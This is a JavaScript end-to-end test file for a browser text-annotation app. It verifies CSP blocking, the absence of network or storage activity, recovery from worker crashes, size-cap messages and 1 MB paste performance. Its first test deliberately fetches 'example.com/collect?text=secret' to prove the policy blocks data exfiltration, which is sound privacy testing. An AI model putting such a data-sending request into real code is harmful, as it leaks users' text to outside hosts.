// End-to-end reliability and privacy: CSP blocks outbound requests, no request while annotating,
// a wasm trap / crashed / hung worker is survived with the text kept, the size cap says what it
// cut, and a 1 MB paste paints its first highlights without a long main-thread task.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { serve, launch, open, annotated, reannotate, paste } from './harness.mjs';

let server;
let browser;
before(async () => {
  server = await serve();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  server?.stop();
});

test('CSP blocks a deliberate fetch to another origin (no request leaves)', async () => {
  const { page, context, requests } = await open(browser, server.url);
  await annotated(page);
  const outcome = await page.evaluate(async () => {
    const seen = new Promise((r) => document.addEventListener('securitypolicyviolation', (e) => r(e.violatedDirective), { once: true }));
    let fetched;
    try { await fetch('https://example.com/collect?text=secret'); fetched = 'sent'; } catch (e) { fetched = 'blocked'; }
    return { fetched, directive: await seen };
  });
  assert.deepEqual(outcome, { fetched: 'blocked', directive: 'connect-src' });
  assert.ok(!requests.some((u) => u.includes('example.com')), 'the request never reached the network layer');
  await context.close();
});

test('zero network requests while annotating, nothing written to storage', async () => {
  const { page, context, requests } = await open(browser, server.url);
  await annotated(page);
  const n = requests.length;
  await reannotate(page, () => paste(page, '#article', { text: 'Iran said on Monday that talks with the United States in Oman would go ahead, officials said.' }));
  await page.click('#tab-claims');
  await page.keyboard.press('n');
  assert.deepEqual(requests.slice(n), [], 'no request after load');
  const stored = await page.evaluate(() => localStorage.length + sessionStorage.length + document.cookie.length);
  assert.equal(stored, 0);
  await context.close();
});

for (const kind of ['trap', 'crash']) {
  test(`a ${kind} in the worker: it is restarted, an error is shown, the text is kept`, async () => {
    const { page, context } = await open(browser, server.url, { query: '?debug' });
    await annotated(page);
    const text = await page.inputValue('#input');
    await page.evaluate((k) => window.ledeDebug.crash(k), kind);
    await page.waitForSelector('body[data-state="error"]');
    assert.match(await page.textContent('#status'), /crashed.*Your text is kept/);
    assert.equal(await page.inputValue('#input'), text, 'the text is kept');
    await reannotate(page, () => page.click('#analyse'));
    assert.match(await page.textContent('#status'), /\d+ entities/, 'the restarted worker annotates');
    await context.close();
  });
}

test('new text cancels a running (hung) job', async () => {
  const { page, context } = await open(browser, server.url, { query: '?debug' });
  await annotated(page);
  await page.evaluate(() => window.ledeDebug.crash('hang'));
  await page.waitForSelector('body[data-state="busy"]');
  await reannotate(page, () => paste(page, '#article', { text: 'Oman said the talks would go ahead.' }));
  assert.equal(await page.textContent('#article'), 'Oman said the talks would go ahead.');
  await context.close();
});

test('over the size cap: annotates the head, says so, keeps the rest in the box', async () => {
  const { page, context } = await open(browser, server.url, { query: '?debug&cap=2000' });
  await annotated(page);
  const para = 'Iran said talks in Oman would go ahead, according to officials.';
  const text = Array.from({ length: 60 }, () => para).join('\n\n');
  await reannotate(page, () => paste(page, '#article', { text }));
  const shown = await page.textContent('#article');
  assert.ok(shown.length <= 2000 && shown.length > 1500, `annotated ${shown.length} units`);
  assert.ok(text.startsWith(shown.trimEnd()));
  const note = await page.textContent('#note');
  assert.match(note, /left the last [\d,]+ characters out\. They are still in the input box\./);
  assert.equal(await page.inputValue('#input'), text, 'nothing silently dropped');
  await context.close();
});

test('a 1 MB paste: first highlights appear and no main-thread task exceeds 50 ms', async () => {
  const initScript = () => {
    window.__long = [];
    new PerformanceObserver((list) => { for (const e of list.getEntries()) window.__long.push([e.startTime, e.duration]); })
      .observe({ type: 'longtask', buffered: true });
  };
  const { page, context } = await open(browser, server.url, { initScript });
  await annotated(page);
  const seed = await page.inputValue('#input');
  const big = Array.from({ length: Math.ceil(1_048_576 / (seed.length + 2)) }, () => seed).join('\n\n');
  assert.ok(big.length >= 1_048_576);
  // put the text in the page first (building a 1 MB string in page.evaluate is the test's cost)
  await page.evaluate((t) => { window.__big = t; }, big);
  const t0 = await page.evaluate(() => {
    document.body.dataset.state = 'test-waiting';
    delete document.body.dataset.highlights;
    const dt = new DataTransfer();
    dt.setData('text/plain', window.__big);
    const t = performance.now();
    document.querySelector('#article').dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true }));
    return t;
  });
  await page.waitForSelector('body[data-highlights="shown"] #article mark', { timeout: 60000 });
  const firstAt = await page.evaluate(() => performance.now());
  await annotated(page, 120000);
  const long = await page.evaluate((t) => window.__long.filter(([s]) => s >= t), t0);
  console.log(`# 1 MB: first highlights after ${Math.round(firstAt - t0)} ms; long tasks: ${JSON.stringify(long.map(([, d]) => Math.round(d)))}`);
  assert.deepEqual(long, [], 'no long task on the main thread');
  assert.ok(await page.$$eval('#article mark', (m) => m.length) > 1000);
  await context.close();
});
